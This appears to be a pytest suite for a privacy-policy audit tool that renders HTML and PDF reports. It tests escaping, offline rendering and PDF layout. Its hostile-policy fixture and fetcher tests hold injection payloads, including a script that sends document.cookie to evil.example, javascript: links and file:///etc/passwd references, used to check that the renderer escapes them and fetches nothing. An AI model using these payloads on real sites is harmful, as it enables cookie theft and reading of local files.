"""The audit report (issue 5): HTML and PDF from one Result, offline, escaped, deterministic.

PDF checks read the PDF back with poppler-utils (pdftotext, pdftoppm, pdfinfo), which .ci/run installs."""
from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
from datetime import date
from pathlib import Path

import pytest

import checker
from checker.cli import main
from checker.formatters import EXTENSIONS, FORMATTERS, render
from checker.formatters import html_format, pdf_format

from .conftest import ROOT

GOLDEN = Path(__file__).parent / "golden"
AS_OF = date(2026, 11, 26)
GAPPY = "examples/gappy-policy.md"
A4_WIDTH_PT = 595.28


def _tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        if os.environ.get("CI"):
            pytest.fail(f"{name} (poppler-utils) is missing: .ci/run should install it")
        pytest.skip(f"{name} (poppler-utils) is not installed")
    return path


@pytest.fixture
def at_root(monkeypatch):
    monkeypatch.chdir(ROOT)


@pytest.fixture(scope="module")
def gappy():
    cwd = os.getcwd()
    os.chdir(ROOT)
    try:
        return checker.check([GAPPY], as_of=AS_OF)
    finally:
        os.chdir(cwd)


@pytest.fixture(scope="module")
def gappy_pdf(gappy, tmp_path_factory):
    path = tmp_path_factory.mktemp("pdf") / "gappy.pdf"
    path.write_bytes(render("pdf", gappy))
    return path


def _pdftext(path: Path, *args: str) -> str:
    return subprocess.run([_tool("pdftotext"), *args, str(path), "-"], capture_output=True, text=True,
                          check=True).stdout


def _flat(text: str) -> str:
    return " ".join(text.split())


def _hostile_policy() -> str:
    long_line = "We collect data " + "x" * 30000 + " " + " ".join(["personal data about your device"] * 700)
    assert len(long_line) >= 50000 and "\n" not in long_line
    return (
        "# Privacy Policy <script>alert('title')</script>\n\n"
        '<link rel="stylesheet" href="https://evil.example/steal.css">\n'
        '<img src="https://evil.example/track.png"> <img src="file:///etc/passwd">\n'
        '<style>body { display: none }</style> <a href="javascript:alert(1)">click</a>\n\n'
        "## Your rights\n\n"
        "You may ask us to erase your personal data.<script>fetch('https://evil.example/?c='+document.cookie)"
        "</script> We do not sell your personal information. "
        "We may sell your email address and name to our marketing partners.\n\n"
        "## حقوقك\n\n"
        "يمكنك أن تطلب منا حذف بياناتك الشخصية. You may ask us to delete your personal data (حذف البيانات).\n\n"
        "## זכויותיך\n\n"
        "אתה רשאי לבקש מאיתנו למחוק את המידע האישי שלך. You can request a copy of your personal data (עותק).\n\n"
        "## Long line\n\n" + long_line + "\n"
    )


# ---------------------------------------------------------------- registry and CLI


def test_registry_has_html_and_pdf():
    assert {"html", "pdf"} <= set(FORMATTERS)
    assert EXTENSIONS[".pdf"] == "pdf" and EXTENSIONS[".html"] == "html" and EXTENSIONS[".htm"] == "html"


def run(args, capsys):
    with pytest.raises(SystemExit) as exc:
        main(list(args))
    out, err = capsys.readouterr()
    return exc.value.code, out, err


def test_cli_writes_pdf_and_html_in_one_run(capsys, tmp_path, at_root):
    pdf, html = tmp_path / "x.pdf", tmp_path / "y.html"
    code, out, err = run([GAPPY, "--as-of", "2026-11-26", "-o", str(pdf), "-o", str(html)], capsys)
    assert code == 1, err  # the gappy example fails the gate
    assert err == ""
    assert "gdpr.right_to_erasure" in out  # stdout still shows the terminal report
    assert pdf.read_bytes().startswith(b"%PDF-")
    page = html.read_text("utf-8")
    assert page.startswith("<!DOCTYPE html>") and "2026-11-26" in page
    assert page == render("html", checker.check([GAPPY], as_of=AS_OF))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.pdf", "y.html"]  # no temporary files left
    umask = os.umask(0)
    os.umask(umask)
    assert pdf.stat().st_mode & 0o777 == 0o666 & ~umask  # not the private mode of a temporary file


@pytest.mark.parametrize("args, words", [
    (["-o", "{d}/r.pdf", "-o", "{d}/r.docx"], ["r.docx", "cannot tell the output format"]),
    (["-f", "pdf"], ["--format pdf", "-o PATH"]),
    (["-f", "html"], ["--format html", "-o PATH"]),
    (["-f", "pdf", "-o", "{d}/r.json"], ["r.json", "says json", "--format is pdf"]),
    (["-o", "{d}/r.html", "-o", "{d}/missing/r.pdf"], ["missing", "does not exist"]),
])
def test_cli_output_errors_are_one_line_and_write_nothing(capsys, tmp_path, at_root, args, words):
    args = [a.format(d=tmp_path) for a in args]
    code, out, err = run([GAPPY, *args], capsys)
    assert code == 2 and out == ""
    assert err.startswith("gapcheck: error: ") and err.count("\n") == 1, err
    for w in words:
        assert w in err
    assert list(tmp_path.iterdir()) == []


def test_cli_format_pdf_with_output_without_extension(capsys, tmp_path, at_root):
    target = tmp_path / "audit"
    code, out, err = run([GAPPY, "--regime", "coppa", "-f", "pdf", "-o", str(target)], capsys)
    assert code == 1 and err == ""
    assert target.read_bytes().startswith(b"%PDF-")
    assert "coppa.minimum_age" in out  # stdout: the text report


def test_cli_failed_write_leaves_nothing(capsys, tmp_path, at_root, monkeypatch):
    """When the second file cannot be written, the first is not left behind either."""
    import checker.cli as cli

    real = os.replace
    calls = []

    def flaky(src, dst):
        calls.append(dst)
        if len(calls) == 1:
            raise OSError(28, "No space left on device")
        return real(src, dst)

    monkeypatch.setattr(cli.os, "replace", flaky)
    code, _, err = run([GAPPY, "-o", str(tmp_path / "a.html"), "-o", str(tmp_path / "b.json")], capsys)
    assert code == 2 and "No space left" in err and err.count("\n") == 1
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------- HTML


def test_html_golden(gappy):
    out = render("html", gappy)
    golden = GOLDEN / "gappy-policy.html"
    if os.environ.get("GAPCHECK_UPDATE_GOLDEN"):
        golden.write_text(out, encoding="utf-8")
    assert out == golden.read_text(encoding="utf-8"), "run with GAPCHECK_UPDATE_GOLDEN=1 after an intended change"


def test_html_deterministic_apart_from_the_check_date(at_root):
    a = render("html", checker.check([GAPPY], as_of=AS_OF))
    b = render("html", checker.check([GAPPY], as_of=AS_OF))
    assert a == b
    c = render("html", checker.check([GAPPY], as_of=date(2026, 12, 1)))
    assert "2026-12-01" in c and "2026-11-26" not in c


def test_html_contents(gappy):
    page = render("html", gappy)
    report = gappy.reports[0]
    assert report.document.sha256 in page and "examples/gappy-policy.md" in page
    assert f"gapcheck {checker.__version__}" in page
    for p in gappy.packs:
        assert f"{p.regime} {p.version}" in page  # rule-pack versions on the cover and in the appendix
    for f in report.findings:
        assert f'id="r-{f.id}"' in page and _esc(f.citation) in page
    # matched words are highlighted inside the exact quote
    ev = next(e for f in report.findings for e in f.evidence if e.highlights)
    s, e = ev.highlights[0]
    assert f"<mark>{_esc(report.document.text[s:e])}</mark>" in page
    # gaps say what the law requires and how to fix it
    reqs = {r.id: r for p in gappy.packs for r in p.requirements}
    gap = next(f for f in report.findings if f.status == "missing")
    assert _esc(reqs[gap.id].summary.strip()) in page and _esc(gap.remediation.strip()) in page
    # no waivers exist yet: none is shown as applied
    assert 'class="badge s-waived"' not in page and "<strong>Waived.</strong>" not in page
    assert "No finding in this report has been waived" in page
    # nothing is linked: the HTML file stands alone
    assert not re.search(r"<(?:link|img|script)\b", page) and "url(" not in page


def test_html_for_several_policies(at_root):
    result = checker.check(["examples/"], regimes="gdpr", as_of=AS_OF)
    page = render("html", result)
    ids = re.findall(r'\bid="([^"]+)"', page)
    assert len(ids) == len(set(ids))  # every anchor unique, so page references and bookmarks resolve
    hrefs = set(re.findall(r'href="#([^"]+)"', page))
    assert hrefs <= set(ids)
    assert "<title>Privacy policy audit: 2 policies</title>" in page
    for r in result.reports:
        assert r.document.path in page and r.document.sha256 in page
    assert 'id="p1-gdpr.right_to_erasure"' in page and 'id="p2-gdpr.right_to_erasure"' in page


def test_html_anchors_resolve(gappy):
    page = render("html", gappy)
    ids = re.findall(r'\bid="([^"]+)"', page)
    assert len(ids) == len(set(ids)) and set(re.findall(r'href="#([^"]+)"', page)) <= set(ids)


def _esc(text: str) -> str:
    from markupsafe import escape

    return str(escape(text))


def test_html_escapes_a_hostile_policy(tmp_path):
    path = tmp_path / "hostile.md"
    path.write_text(_hostile_policy(), encoding="utf-8")
    result = checker.check([str(path)], as_of=AS_OF)
    page = render("html", result)
    assert not re.search(r"<\s*(?:script|img|link|style\s*>\s*body|iframe)\b", page, re.I)
    assert not re.search(r"(?:href|src)\s*=\s*[\"']?(?:https?:|javascript:|file:)", page, re.I)
    assert "&lt;script&gt;" in page and "evil.example" in page  # shown as text, escaped
    assert "<style>body { display: none }" not in page
    assert "حذف البيانات" in page and "עותק" in page and "حقوقك" in page and "זכויותיך" in page
    assert "characters are not shown" in page  # the 50,000-character line is quoted around its matches
    assert max(len(line) for line in page.splitlines()) < 5000


# ---------------------------------------------------------------- PDF


def test_pdf_text_has_citations_statuses_and_quotes(gappy, gappy_pdf):
    text = _pdftext(gappy_pdf)
    flat = _flat(text)
    report = gappy.reports[0]
    for f in report.findings:
        assert f.citation in flat, f.citation
        assert f.title in flat, f.title
        for ev in f.evidence:
            assert _flat(ev.quote)[:60] in flat, ev.quote
    for word in ("MET", "PARTIAL", "MISSING", "NOT APPLICABLE", "GATE FAILED"):
        assert word in text
    pages = text.count("\f")
    assert f"Page 2 of {pages}" in flat and f"Page {pages} of {pages}" in flat
    assert "Contents" in flat and "Appendix A. Requirements checked" in flat
    assert report.document.sha256 in flat and "26 November 2026" in flat


def test_pdf_metadata_and_outline(gappy_pdf):
    info = subprocess.run([_tool("pdfinfo"), str(gappy_pdf)], capture_output=True, text=True, check=True).stdout
    fields = dict(line.split(":", 1) for line in info.splitlines() if ":" in line)
    assert fields["Title"].strip() == "Privacy policy audit: gappy-policy.md"
    assert fields["Subject"].strip().startswith("Check of a privacy policy against GDPR")
    assert "2026" in fields["CreationDate"]
    xml = subprocess.run([_tool("pdftohtml"), "-xml", "-i", "-stdout", "-q", str(gappy_pdf)], capture_output=True,
                         text=True, check=True).stdout
    outline = re.findall(r'<item page="(\d+)">([^<]*)</item>', xml)  # bookmarks
    titles = [t for _, t in outline]
    assert "Executive summary" in titles and "Appendix A. Requirements checked" in titles
    assert "Right to erasure" in titles  # one per finding, under its regime


def test_pdf_nothing_runs_off_the_page(gappy_pdf):
    """Every word lies inside the page width (no text cut off at the right edge)."""
    _assert_words_inside(gappy_pdf)


def _assert_words_inside(pdf: Path):
    bbox = _pdftext(pdf, "-bbox")
    xs = [float(x) for x in re.findall(r'xMax="([\d.]+)"', bbox)]
    assert xs and max(xs) <= A4_WIDTH_PT - 50, max(xs)  # right margin is 20 mm (57 pt)


def test_pdf_first_page_renders(gappy_pdf, tmp_path):
    from PIL import Image

    subprocess.run([_tool("pdftoppm"), "-r", "40", "-f", "1", "-l", "1", "-png", str(gappy_pdf),
                    str(tmp_path / "page")], check=True)
    (png,) = tmp_path.glob("page*.png")
    with Image.open(png) as im:
        w, h = im.size
        assert 300 <= w <= 360 and 440 <= h <= 500  # A4 at 40 dpi: 331 x 468
        grey = im.convert("L")
        dark = sum(grey.histogram()[:160])
        assert dark > 0.004 * w * h  # ink on the page: the title, the facts, the verdict
        assert dark < 0.5 * w * h  # and not a black page either


def test_pdf_of_a_hostile_policy_is_offline_and_readable(tmp_path, monkeypatch):
    path = tmp_path / "hostile.md"
    path.write_text(_hostile_policy(), encoding="utf-8")
    result = checker.check([str(path)], regimes="gdpr,ccpa", as_of=AS_OF)
    html = render("html", result)

    def no_network(*a, **k):
        raise AssertionError("the report renderer tried to use the network")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    fetcher = pdf_format.make_fetcher()
    pdf = tmp_path / "hostile.pdf"
    pdf.write_bytes(pdf_format.html_to_pdf(html, fetcher))
    root = html_format.templates_dir().resolve().as_uri()
    assert fetcher.requested and all(u.startswith(root + "/") for u in fetcher.requested), fetcher.requested
    assert fetcher.refused == []
    flat = _flat(_pdftext(pdf))
    assert "<script>fetch(" in flat and "evil.example" in flat  # shown as text
    assert "CONTRADICTION" in flat and "We do not sell your personal information" in flat
    assert "characters are not shown" in flat
    _assert_words_inside(pdf)


def test_fetcher_refuses_everything_but_its_own_files(tmp_path):
    fetcher = pdf_format.make_fetcher()
    root = html_format.templates_dir().resolve()
    font = next((root / "fonts").glob("*.woff"))
    assert fetcher.fetch(font.as_uri()).read()[:4] == b"wOFF"
    outside = tmp_path / "secret.txt"
    outside.write_text("secret")
    for url in ("http://example.com/a.png", "https://example.com/a.css", "ftp://example.com/x",
                outside.as_uri(), "file:///etc/passwd", (root / ".." / ".." / "README.md").as_uri(),
                "file://evil.example/share/x.css", "data:text/css,body{}", "javascript:alert(1)"):
        with pytest.raises(pdf_format.RefusedURL):
            fetcher.fetch(url)
    assert len(fetcher.refused) == 9


def test_pdf_renderer_refuses_remote_resources_even_in_its_own_html(monkeypatch):
    """Defence in depth: if remote references ever reached the HTML, WeasyPrint still fetches nothing."""
    def no_network(*a, **k):
        raise AssertionError("network access")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    html = ('<html><head><link rel="stylesheet" href="https://evil.example/x.css">'
            '<style>@import url("http://evil.example/y.css"); body { background: url(ftp://evil.example/z.png) }'
            '</style></head><body><img src="https://evil.example/t.png"><img src="file:///etc/passwd">'
            "<p>text</p></body></html>")
    fetcher = pdf_format.make_fetcher()
    assert pdf_format.html_to_pdf(html, fetcher).startswith(b"%PDF-")
    assert set(fetcher.refused) >= {"https://evil.example/x.css", "https://evil.example/t.png",
                                    "file:///etc/passwd"}
    assert all(u in fetcher.refused for u in fetcher.requested if "evil" in u or "passwd" in u)


# ---------------------------------------------------------------- packaging


@pytest.mark.parametrize("package, folder", [("checker.templates", "reports/templates"), ("checker.rules", "rules")])
def test_templates_and_rules_ship_as_package_data(package, folder):
    """Every file under reports/templates/ and rules/ is in a listed package and matched by its package-data."""
    import fnmatch

    try:
        import tomllib
    except ModuleNotFoundError:  # Python 3.10
        pytest.skip("tomllib needs Python 3.11")
    conf = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))["tool"]["setuptools"]
    assert conf["package-dir"][package] == folder
    base = ROOT / folder
    for f in base.rglob("*"):
        if f.is_file() and "__pycache__" not in f.parts:
            rel = f.relative_to(base)
            sub = ".".join((package, *rel.parent.parts)) if rel.parent.parts else package
            assert sub in conf["packages"], f"{rel}: package {sub} not listed in pyproject's packages"
            patterns = conf["package-data"].get(sub, [])
            assert any(fnmatch.fnmatch(rel.name, p) for p in patterns), f"{rel}: no package-data pattern of {sub}"
    assert (html_format.templates_dir() / "report.html.j2").is_file()
